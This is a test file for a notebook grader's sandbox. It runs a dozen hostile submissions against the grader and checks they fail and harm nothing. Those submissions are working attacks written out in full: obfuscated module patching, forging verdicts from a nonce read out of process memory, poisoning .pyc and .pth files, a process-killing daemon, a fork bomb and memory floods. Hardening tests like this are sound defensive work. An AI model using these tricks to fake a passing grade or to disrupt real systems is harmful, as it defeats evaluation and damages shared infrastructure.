"""Issue 24's "done means": hostile answers earn nothing, harm no classmate, and leave no trace.

Each hostile exercise cell below is a submission of its own (notebook 00 with its exercise
cell replaced), graded by the real ``python -m labs grade --timeout 6 --jobs 3`` in ONE run
beside honest classmates (the reference answer, and the untouched notebook), placed before,
among and after the attacks, so that an attack on the grader shows on their rows. The run is
over a copy of the kit with a venv of its own (tests/hostile_harness.py), never over this
checkout, and happens twice: as root and as an unprivileged user (uid 65534). Per user:

1. a clean baseline run of the classmates alone;
2. the hostile run: every attack and the classmates together;
3. a second run of the classmates alone, after it (a poisoned kit or a process left running
   would change their grades).

Then, for each user: no attack's row is "solved"; every classmate's row is exactly its
baseline row, in both later runs; no file of the kit copy or its venv changed; nothing the
runs started is still running; grading ended, with every row and a JUnit file; the grader's
memory stayed bounded (an answer writes 1 GiB to its output), no process of the run grew to
gigabytes, and a fork bomb stayed at a few hundred processes. The table and the JUnit file
name the sandbox, and ``--require-sandbox`` without bubblewrap grades nothing and exits 2.

Grading as another user needs these tests to run as root; where they cannot, they fail in CI
(``CI`` or ``SSE_KIT_REQUIRE_BROWSER=1``) and are skipped, saying why, elsewhere.
"""

from __future__ import annotations

import os
import shutil
import sysconfig
import tempfile
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
from hostile_harness import NOBODY, Graded, Kit, changes, grade, kill, leftovers, make_kit, tree_digest, user_problem

from labs.exercises.notebooks import exercise_cells
from tools import solutions

# The whole file grades in one module fixture: five runs per user (about 20-30 s each with the
# new judge; today's judge can hang on an attack until the harness's 75 s limit).
pytestmark = pytest.mark.timeout(300)

ROOT = Path(__file__).resolve().parent.parent
WELCOME = ROOT / "notebooks" / "00_welcome_and_setup.ipynb"
TIMEOUT = "6"  # --timeout: each answer's limit, in seconds
USERS = {"root": None, "nobody": NOBODY}
STUB = "\n\ndef is_healthy(url):\n    raise NotImplementedError\n"

# Finds the judge's fork server (today's: the process that forks each judge) through /proc:
# the process whose command line names it and whose parent's does not. Only this kit's (its
# command line names this venv): never a fork server of another checkout on the machine.
FIND_FORK_SERVER = r'''import os
import sys


def fork_servers():
    found, ours = [], sys.prefix.encode()
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                command = f.read()
            with open(f"/proc/{pid}/stat", "rb") as f:
                parent = f.read().rsplit(b")", 1)[1].split()[1].decode()
            with open(f"/proc/{parent}/cmdline", "rb") as f:
                parent_command = f.read()
        except (OSError, IndexError):
            continue
        if ours in command and b"forkserver" in command and b"forkserver" not in parent_command:
            found.append(int(pid))
    return found
'''

HOSTILE = {
    # 1. sys.modules reached with getattr and joined strings (no forbidden name is written),
    #    and the check's own test servers swapped for fakes that tell the answer what to say.
    "01_modules_by_getattr": r'''import contextlib

home = getattr(print, "__se" + "lf__")  # the builtins module
load = getattr(home, "__im" + "port__")
loaded = getattr(load("sy" + "s"), "mod" + "ules")
checks = loaded["labs.exercises.nb" + "00"]
live, healthy = set(), {}


@contextlib.contextmanager
def fake_server(status, body):
    url = f"http://fake/{len(healthy)}"
    healthy[url] = status == 200 and isinstance(body, dict) and body.get("status") == "ok"
    live.add(url)
    try:
        yield url
    finally:
        live.discard(url)


setattr(checks, "health_" + "server", fake_server)


def is_healthy(url):
    return url in live and healthy[url]
''',
    # 2. The check function found through object's subclasses, its __code__ replaced.
    "02_check_code_replaced": r'''def find(name):
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == name and kind.__module__.startswith("labs.exercises"):
            return kind


machinery = getattr(find("Answer").function, "__glo" + "bals__")
the_check = machinery["_REGISTRY"]["0.1"].test
setattr(the_check, "__co" + "de__", getattr(lambda answer: None, "__co" + "de__"))
''' + STUB,
    # 3. The verdict's nonce read from the process's own memory, a verdict line written to every
    #    pipe the process holds (the verdict's channel is one of them) and to stdout.
    "03_nonce_from_proc_self_mem": r'''import json
import os
import re

pattern = re.compile(rb"SSE-KIT-VERDICT ([0-9a-f]{32}) ")
nonce = None
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        span, perms = line.split()[:2]
        start, end = (int(x, 16) for x in span.split("-"))
        for at in range(start, end if perms.startswith("rw") and not nonce else start, 1 << 24):
            try:
                memory.seek(at)
                found = pattern.search(memory.read(min(end - at, (1 << 24) + 64)))
            except (OSError, OverflowError, ValueError):
                break
            if found:
                nonce = found.group(1).decode()
                break
if nonce:
    verdict = {"exercise": "0.1", "status": "solved", "reason": ""}
    line = f"SSE-KIT-VERDICT {nonce} {json.dumps(verdict)}\n".encode()
    for fd in [1] + [int(fd) for fd in os.listdir("/proc/self/fd") if int(fd) > 2]:
        try:
            os.write(fd, line)
        except OSError:
            pass
    os._exit(0)
''' + STUB,
    # 4. Code compiled (by the standard library's `code` module) under a filename starting with
    #    "<", which the audit hook takes for the interpreter's own, walks the frames to the writer.
    "04_trusted_filename": r'''import code

walk = (
    "import sys\n"
    "frame = sys._getframe()\n"
    "while frame is not None:\n"
    "    writer = frame.f_locals.get('write_verdict')\n"
    "    if writer:\n"
    "        writer('0.1', 'solved', '')\n"
    "    frame = frame.f_back\n"
)
code.InteractiveInterpreter({}).runsource(walk, "<frozen importlib._bootstrap>", "exec")
''' + STUB,
    # 5. A signal handler is handed the interrupted frame: walked up to the verdict's writer.
    "05_signal_handler_frame": r'''import os
import signal


def on_signal(signum, frame):
    while frame is not None:
        writer = frame.f_locals.get("write_verdict")
        if writer:
            writer("0.1", "solved", "")
        frame = frame.f_back


signal.signal(signal.SIGUSR1, on_signal)
os.kill(os.getpid(), signal.SIGUSR1)
''' + STUB,
    # 6. The shared `random` seeded: the order in which the check tries its hidden servers is
    #    then known, and the answer replies from a list without ever asking a server.
    "06_seeded_random": r'''import random

random.seed(2024)  # the check shuffles its five servers with this generator, right after the cell
replies = [True, False, False, False, False]  # their expected answers, in the check's own order
random.Random(2024).shuffle(replies)
replies = iter(replies + [False])  # then a server that is gone


def is_healthy(url):
    return next(replies)  # never looks at the server
''',
    # 7a. A check module's compiled file replaced by one whose check passes everything, stamped
    #     with the real source's mtime and size (so Python trusts it); the fork server killed.
    "07a_pyc_of_the_check": FIND_FORK_SERVER + r'''import py_compile

import labs

real = os.path.join(os.path.dirname(labs.__file__), "exercises", "nb00.py")
target = os.path.join(os.path.dirname(real), "__pycache__", f"nb00.{sys.implementation.cache_tag}.pyc")
fake = ("from labs.exercises import exercise\n\n\n"
        "@exercise('0.1', hints=['a nudge', 'more'])\ndef check_0_1(answer):\n    pass\n")
try:
    size, real_stat = os.stat(real).st_size, os.stat(real)
    with open("nb00.py", "w") as out:
        out.write(fake + "#" * (size - len(fake) - 1) + "\n")
    os.utime("nb00.py", ns=(real_stat.st_atime_ns, real_stat.st_mtime_ns))
    os.makedirs(os.path.dirname(target), exist_ok=True)
    py_compile.compile("nb00.py", cfile=target, dfile=real, doraise=True)
except Exception as exc:
    print("not written:", exc, file=sys.stderr)
for pid in fork_servers():
    os.kill(pid, 9)
''' + STUB,
    # 7b. The venv poisoned with a .pth that makes exercise 0.1's check pass anything, the fork server
    #    killed so that it starts again (and reads it); every later grader reads it too.
    "07b_pth_in_the_venv": FIND_FORK_SERVER + r'''import site
import time

POISON = "import labs.exercises.nb00 as m; m.check_0_1.__code__ = (lambda answer: None).__code__\n"
for folder in site.getsitepackages():
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "zz_sse_kit_hostile.pth"), "w") as out:
            out.write(POISON)
    except OSError as exc:
        print("not written:", exc, file=sys.stderr)
time.sleep(0.3)  # 07a, judged at the same time, writes its file too
for pid in fork_servers():
    os.kill(pid, 9)
''' + STUB,
    # 8. The fork server stopped: grading must still end, with every row and its JUnit file.
    "08_fork_server_stopped": FIND_FORK_SERVER + r'''import signal

for pid in fork_servers():
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass
''' + STUB,
    # 9. 1 GiB written to stderr: whoever collects it must not keep it all.
    "09_gib_to_stderr": r'''import os

chunk = b"x" * (1 << 20)
for _ in range(1024):
    os.write(2, chunk)
''' + STUB,
    # 10. A daemon (new session, double fork, its pipes closed) that outlives its judge and, for a
    #     minute, kills every process of this kit but the grader: the classmates' judges.
    "10_setsid_daemon": r'''import os
import sys
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        quiet = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(quiet, fd)
        os.closerange(3, 65536)
        ours, me, stop = sys.prefix.encode(), os.getpid(), time.time() + 60
        while time.time() < stop:
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as f:
                        command = f.read()
                    if ours in command and int(pid) != me and b"\0grade\0" not in command:
                        os.kill(int(pid), 9)
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)
''' + STUB,
    # 11. A fork bomb: sixteen forkers of 128 processes each (about 2,060) if nothing stops it;
    #     each child execs `sleep` at once, to spare the machine its memory.
    "11_fork_bomb": r'''import os
import time

for _ in range(4):
    try:
        os.fork()
    except OSError:
        break
for _ in range(128):
    try:
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "30"])
    except OSError:
        break
time.sleep(30)
''' + STUB,
    # 12. Two gibibytes, every page touched, held for four seconds.
    "12_two_gib": r'''import time

hoard = b"x" * (2 << 30)
time.sleep(4)
''' + STUB,
}

# The order of grading (the folders sort so): honest classmates first, then the attacks on
# resources (their peaks are measured before anything else can end them), the attacks on the
# verdict, the poisoning (which kills the fork server), the stopped fork server and the daemon,
# with classmates after each group, so their rows show what an attack did to the others.
ORDER = [
    "classmate_solved_first", "classmate_unsolved_first",
    "11_fork_bomb", "12_two_gib", "09_gib_to_stderr",
    "01_modules_by_getattr", "02_check_code_replaced", "03_nonce_from_proc_self_mem", "04_trusted_filename",
    "05_signal_handler_frame", "06_seeded_random",
    "classmate_solved_middle", "classmate_unsolved_middle",
    "07a_pyc_of_the_check", "07b_pth_in_the_venv",
    "classmate_solved_after_poisoning", "classmate_unsolved_after_poisoning",
    "08_fork_server_stopped", "10_setsid_daemon",
    "classmate_solved_last", "classmate_unsolved_last",
]
# To study attacks one at a time (they interfere: the poisoning kills every judge in flight):
# SSE_KIT_HOSTILE_ONLY=03_nonce_from_proc_self_mem,08_fork_server_stopped grades only those,
# with the classmates.
_ONLY = [name for name in os.environ.get("SSE_KIT_HOSTILE_ONLY", "").split(",") if name]
FOLDER = {name: f"{position:02d}-{name}" for position, name in enumerate(ORDER)}
CLASSMATES = {name: name.split("_")[1] for name in ORDER if name.startswith("classmate_")}
BASELINE = ("classmate_solved_first", "classmate_unsolved_first")
assert sorted(set(ORDER) - set(CLASSMATES)) == sorted(HOSTILE)
assert not set(_ONLY) - set(HOSTILE), f"SSE_KIT_HOSTILE_ONLY names no attack: {_ONLY}"
GRADED = [name for name in ORDER if name in CLASSMATES or not _ONLY or name in _ONLY]


def shipped():
    return nbformat.read(WELCOME, as_version=4)


def notebook_for(kind: str):
    if kind == "unsolved":
        return shipped()
    if kind == "solved":
        return solutions.solve(shipped(), solutions.load_solutions(solutions.solution_file(WELCOME)))
    notebook = shipped()
    notebook.cells[exercise_cells(notebook)["0.1"]].source = f"# Exercise 0.1: ask a lab if it is healthy\n{kind}"
    return notebook


def write_class(folder: Path, names: list[str]) -> None:
    for name in names:
        (folder / FOLDER[name]).mkdir(parents=True)
        nbformat.write(notebook_for(CLASSMATES.get(name) or HOSTILE[name]), folder / FOLDER[name] / WELCOME.name)


def rows(run: Graded) -> dict[str, tuple[str, str]]:
    """The run's rows by submission: its name (as in ORDER) -> (outcome, message)."""
    return {folder.split("-", 1)[1]: row for folder, row in run.rows().items()}


def require(problem: str | None) -> None:
    """Fail in CI, skip (saying why) elsewhere: never pass without having graded."""
    if problem:
        if os.environ.get("CI") or os.environ.get("SSE_KIT_REQUIRE_BROWSER") == "1":
            pytest.fail(problem)
        pytest.skip(problem)


def venv_problem(kit: Kit) -> str | None:
    """Why the copy's venv cannot run the kit as its user (None when it can)."""
    import subprocess

    probe = ("import labs, flask, requests; "
             f"assert labs.__file__.startswith({str(kit.kit)!r}), labs.__file__")
    run = subprocess.run(kit.command(str(kit.python), "-c", probe), capture_output=True, text=True,
                         env=kit.environment("probe"), cwd=kit.base / "work", timeout=120)
    return None if run.returncode == 0 else f"the copy's venv cannot run the kit: {run.stderr.strip()[-800:]}"


@dataclass
class Runs:
    user: str
    kit: Kit
    baseline: Graded
    hostile: Graded
    second: Graded
    without_bwrap: Graded  # --require-sandbox, SSE_KIT_BWRAP=/nonexistent
    required: Graded  # --require-sandbox, bubblewrap there
    kit_changes: dict[str, list[str]]  # after which run -> what changed in the copy and its venv


@pytest.fixture(scope="module", params=list(USERS))
def runs(request):
    user, uid = request.param, USERS[request.param]
    require(user_problem(uid))
    base = Path(tempfile.mkdtemp(prefix=f"sse-kit-hostile-{user}-"))
    os.chmod(base, 0o755)  # the grading user goes through it to its own folder, run/
    purelib = sysconfig.get_paths()["purelib"]  # this checkout's venv, which the copy's venv links to
    checkout_site = set(os.listdir(purelib))
    kit, graded = make_kit(base / "run", uid), []
    try:
        require(venv_problem(kit))
        work = kit.base / "work"
        write_class(work / "classmates", list(BASELINE))
        write_class(work / "everyone", GRADED)
        if uid is not None:
            for path in [work, *work.rglob("*")]:
                os.lchown(path, uid, uid)
        options = ("--timeout", TIMEOUT, "--jobs", "3")
        before, kit_changes = tree_digest(kit.kit), {}
        baseline = grade(kit, "classmates", *options, limit=60)
        kit_changes["the baseline run"] = changes(before, tree_digest(kit.kit))
        hostile = grade(kit, "everyone", *options, limit=75)
        kit_changes["the hostile run"] = changes(before, tree_digest(kit.kit))
        second = grade(kit, "classmates", *options, limit=60)  # what the hostile run left still runs
        kit_changes["the run after it"] = changes(before, tree_digest(kit.kit))
        kit_changes["(this checkout's own site-packages)"] = [
            f"now holds {name}" for name in sorted(set(os.listdir(purelib)) ^ checkout_site)]
        graded = [baseline, hostile, second]
        kill(leftovers(kit.base, {run.mark for run in graded}))
        without = grade(kit, "classmates", "--require-sandbox", *options, limit=60,
                        extra_env={"SSE_KIT_BWRAP": "/nonexistent"})
        required = grade(kit, "classmates", "--require-sandbox", *options, limit=60)
        graded += [without, required]
        yield Runs(user, kit, baseline, hostile, second, without, required, kit_changes)
    finally:
        kill(leftovers(kit.base, {run.mark for run in graded}))
        shutil.rmtree(base, ignore_errors=True)


def show(run: Graded) -> str:
    return f"--- stdout:\n{run.stdout[-3000:]}\n--- stderr:\n{run.stderr[-3000:]}"


def test_the_baseline_is_honest(runs):
    """The harness itself: in the clean run the reference answer passes and the stub does not."""
    found = rows(runs.baseline)
    assert runs.baseline.returncode == 1, show(runs.baseline)
    assert found["classmate_solved_first"] == ("solved", ""), show(runs.baseline)
    assert found["classmate_unsolved_first"][0] == "not solved", show(runs.baseline)
    assert "not started" in found["classmate_unsolved_first"][1]
    assert runs.kit_changes["the baseline run"] == [], "an honest run wrote into the kit copy"
    assert not runs.baseline.left, f"an honest run left processes: {runs.baseline.left}"


@pytest.mark.parametrize("attack", [name for name in GRADED if name in HOSTILE])
def test_a_hostile_answer_earns_no_pass(runs, attack):
    row = rows(runs.hostile).get(attack)
    assert row is not None, f"no row for {attack} as {runs.user}: grading did not reach it\n{show(runs.hostile)}"
    assert row[0] != "solved", f"{attack}, graded as {runs.user}, was marked solved"


@pytest.mark.parametrize("run", ["hostile", "second"])
def test_classmates_keep_the_grade_of_a_clean_run(runs, run):
    """Graded beside the attacks, and again in the next run: exactly their baseline rows."""
    baseline, found = rows(runs.baseline), rows(getattr(runs, run))
    names = CLASSMATES if run == "hostile" else BASELINE
    expected = {name: baseline[f"classmate_{CLASSMATES[name]}_first"] for name in names}
    got = {name: found.get(name, ("missing", "no row")) for name in names}
    assert got == expected, f"{run} run as {runs.user}"


def test_no_file_of_the_kit_or_its_venv_changed(runs):
    changed = {after: found for after, found in runs.kit_changes.items() if found}
    assert not changed, f"as {runs.user}: {changed}"


@pytest.mark.parametrize("run", ["hostile", "second"])
def test_nothing_is_left_running(runs, run):
    left = getattr(runs, run).left
    assert not left, f"after the {run} run as {runs.user}, still running: " + "; ".join(
        f"{pid}: {command[:150]}" for pid, command in sorted(left.items())[:10])


def test_grading_ends_with_every_row_and_a_junit_file(runs):
    run = runs.hostile
    assert run.returncode == 1, f"as {runs.user}: returncode {run.returncode} after {run.seconds:.0f} s\n{show(run)}"
    assert sorted(rows(run)) == sorted(GRADED), show(run)
    assert run.junit.is_file(), f"no JUnit file\n{show(run)}"
    cases = list(ET.parse(run.junit).getroot().iter("testcase"))
    assert sorted(case.get("classname").split(".")[1] for case in cases) == sorted(run.rows())


def test_the_grader_keeps_little_of_an_answer_that_writes_a_gibibyte(runs):
    peak = runs.hostile.watch.grader_peak_bytes
    assert 0 < peak < 500 << 20, f"as {runs.user}: the grader's peak memory was {peak >> 20} MiB"


def test_no_process_of_the_run_takes_gigabytes(runs):
    size, command = runs.hostile.watch.largest
    assert size < 1 << 30, f"as {runs.user}: one process held {size >> 20} MiB: {command[:200]}"


def test_a_fork_bomb_stays_at_a_few_hundred_processes(runs):
    watch = runs.hostile.watch
    assert watch.samples > 0
    assert watch.most_processes < 500, f"as {runs.user}: {watch.most_processes} processes at once"


def test_the_table_and_the_junit_file_name_the_sandbox(runs):
    for run in (runs.baseline, runs.hostile):
        first = run.stdout.splitlines()[0] if run.stdout else ""
        assert first.startswith("sandbox: bubblewrap"), f"as {runs.user}, the table starts: {first!r}"
        assert run.junit.is_file(), show(run)
        root = ET.parse(run.junit).getroot()
        properties = {prop.get("name"): prop.get("value") or "" for prop in root.iter("property")}
        assert properties.get("sandbox", "").startswith("bubblewrap"), properties


def test_require_sandbox_grades_nothing_without_bubblewrap(runs):
    without, required = runs.without_bwrap, runs.required
    assert without.returncode == 2, show(without)
    assert "unrecognized arguments" not in without.stderr, show(without)
    assert "bubblewrap" in (without.stdout + without.stderr).lower() or "sandbox" in without.stderr, show(without)
    assert not without.rows() and not without.junit.exists(), "it graded"
    assert required.returncode == 1 and rows(required) == rows(runs.baseline), show(required)
